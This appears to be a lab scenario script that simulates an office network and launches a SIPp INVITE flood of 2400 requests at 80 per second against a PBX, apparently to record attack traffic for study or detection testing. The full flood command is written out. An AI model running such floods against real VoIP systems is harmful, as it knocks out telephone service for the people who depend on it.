# SIPp sends 80 INVITEs a second for half a minute, for an extension that has no phone.
relocate example.net 5060 192.168.80 198.18.62 203.0.113
EXTENSIONS=(201 202 203 204 205 206 207 208)
EXISTING='^2[0-4][0-9]$'
WEAK=none
MAX_PACKETS=9000
open_office
add_attacker flooder 203.0.113.80
start_office_capture
keep_alive 16
office_day 408 115
at 30 attack A1 invite_flood flooder 5070 "SIPp sends 2400 INVITEs, 80 a second, for 240, which has no phone." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$parts/sipp/flood-invite.xml" -nostdin -default_behaviors none \
    -i 203.0.113.80 -mi 203.0.113.80 -p 5070 -s 240 -r 80 -m 2400 192.168.80.1:5060
play
wait_for A1
close_office
